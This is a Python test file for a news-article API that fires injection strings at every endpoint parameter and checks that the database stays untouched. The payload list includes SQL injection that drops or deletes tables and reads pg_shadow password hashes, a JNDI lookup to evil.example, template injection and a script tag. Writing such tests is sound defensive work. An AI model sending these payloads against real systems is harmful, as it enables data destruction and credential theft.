"""Every field and parameter that is a text takes statements, zeros and halves of characters for what they are: words, or nothing."""

import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import httpx
from sqlalchemy import text

from app.db import Database
from app.main import create_app
from tests.http.seed import Told, store
from tests.running import post, service, settings_for

ATTACKS = (
    "'; DROP TABLE articles; --",
    "\\'; DELETE FROM articles; --",
    "1' OR '1'='1",
    "$$; SELECT pg_sleep(60); $$",
    "x' UNION SELECT usename, passwd FROM pg_shadow --",
    "%' OR 1=1 /*",
    ":id ${jndi:ldap://evil.example/} {{7*7}} %(name)s %s",
    "a\x00b",
    "\ufffe\ufffd",
    "& | ! <-> :* ( ' \\",
    "(" * 200,
    "\x1b[2J\r\n\u202e",
)
UUID = "019a1b2c-3d62-7c11-9e0f-5a6b7c8d9e0f"
TABLES = text("SELECT string_agg(tablename, ' ' ORDER BY tablename) FROM pg_tables WHERE schemaname = 'public'")


def questions() -> Iterator[tuple[str, str]]:
    """Give method and URL for each attack in each parameter of each operation of the contract."""
    for path, item in create_app(settings_for("postgresql://nowhere")).openapi()["paths"].items():
        for method, operation in item.items():
            parameters = operation.get("parameters", ())
            if path == "/v1/changes/stream":
                continue
            for number, attack in enumerate(ATTACKS):
                hostile = quote(attack, safe="")
                for name in (one["name"] for one in parameters if one["in"] == "path"):
                    yield method, filled(path.replace(f"{{{name}}}", hostile))
                named = [one["name"] for one in parameters if one["in"] == "query"]
                met = named if "\x00" in attack else named[number % 3 :: 3]  # each meets a third of what is alike
                yield from ((method, f"{filled(path)}?{name}={hostile}") for name in met)


def filled(path: str) -> str:
    """Put something harmless in the place of a path's other parameters."""
    for name in ("article_id", "receipt_id", "story_id"):
        path = path.replace(f"{{{name}}}", UUID)
    for name in ("slug", "alias", "broader", "source"):
        path = path.replace(f"{{{name}}}", "quay")
    return path.replace("{revision}", "1")


async def untouched(database: Database) -> tuple[Any, ...]:
    """Give what no attack may change: the tables there are, and what is in them."""
    async with database.reading() as connection:
        tables = await connection.scalar(TABLES)
        counts = (
            "SELECT (SELECT count(*) FROM articles), (SELECT count(*) FROM submissions), (SELECT count(*) FROM topics)"
        )
        return (tables, *(await connection.execute(text(counts))).one())


async def test_no_parameter_is_taken_for_a_part_of_a_statement(client: httpx.AsyncClient, database: Database) -> None:
    await store(database, Told(title="Quay", topics=["Quay"], authors=["Maren Holt"]))
    before = await untouched(database)
    asked = 0
    for method, url in questions():
        answer = await client.request(method, url, content=b"" if method in {"post", "patch"} else None)
        assert answer.status_code in {200, 404, 405, 409, 410, 415, 422}, (method, url, answer.text)
        asked += 1
    assert asked > 300
    after = await untouched(database)
    assert after[:3] == before[:3]


async def test_what_an_article_says_is_stored_and_served_as_it_was_said(database_url: str, database: Database) -> None:
    attack = "'; DROP TABLE articles; -- <script>alert(1)</script> ${jndi:ldap://x} \\"
    said = {
        "content": f"The quay of Port Ellery reopened on Saturday. {attack}",
        "title": f"Harbour {attack}",
        "authors": ["Robert '; DROP TABLE authors; --"],
        "topics": ["Ports '; DROP TABLE topics; --", "<b>Quays</b>"],
        "source": "harbour'; DROP TABLE sources; --",
        "guid": f"guid {attack}",
        "rights": attack,
        "published_at": f"2026-03-14 {attack}",
    }
    async with service(database_url) as client:
        before = await untouched(database)
        receipt = (await post(client, json.dumps(said), "application/json", Prefer="wait=30")).json()
        article = (await client.get(f"/v1/articles/{receipt['items'][0]['article_id']}")).json()
        found = await client.get("/v1/articles", params={"source": said["source"], "q": attack, "fields": "id"})
    assert article["title"] == f"Harbour {attack}"
    assert attack in article["text"]
    assert article["source"] == said["source"]
    assert [item["id"] for item in found.json()["items"]] == [article["id"]]
    assert (await untouched(database))[0] == before[0]


async def test_whatever_stands_in_json_or_text_for_no_character_is_refused_or_mended(
    database_url: str, database: Database
) -> None:
    bodies = {
        b'{"content": "The quay\\u0000 reopened on Saturday.", "title": "\\ud800 Quay \\udfff"}': "application/json",
        b'{"content": "A quay", "content": "The quay of Port Ellery reopened."}': "application/json",
        b"The quay\x00 reopened \xed\xa0\x80 on \xff Saturday.": "text/plain",
        b'{"content": "The quay reopened.", "published_at": 1e999}': "application/json",
        b'{"content": "The quay reopened.", "published_at": ' + b"9" * 5_000 + b"}": "application/json",
        b'{"content": "The quay reopened.", "published_at": -99999999999999999999}': "application/json",
        b'{"content": "The quay reopened.", "published_at": ' + b"9" * 99 + b"}": "application/json",
        b'{"content": "The quay\x00 reopened."}': "application/json",
        b'{"content": "The quay reopened.", "authors": ' + b"[" * 200 + b"]" * 200 + b"}": "application/json",
    }
    outcomes = []
    async with service(database_url) as client:
        for body, kind in bodies.items():
            answer = await post(client, body, kind, Prefer="wait=30")
            outcomes.append(answer.json()["items"][0]["outcome"] if answer.status_code == 200 else answer.status_code)
        titles = [item["title"] for item in (await client.get("/v1/articles")).json()["items"]]
    assert outcomes == ["stored", "stored", "stored", 422, 422, "stored", "unchanged", 422, 422]
    assert all(title is None or title.isprintable() for title in titles)
    async with database.reading() as connection:
        assert await connection.scalar(text("SELECT count(*) FROM submissions")) == sum(
            isinstance(outcome, str) for outcome in outcomes
        )
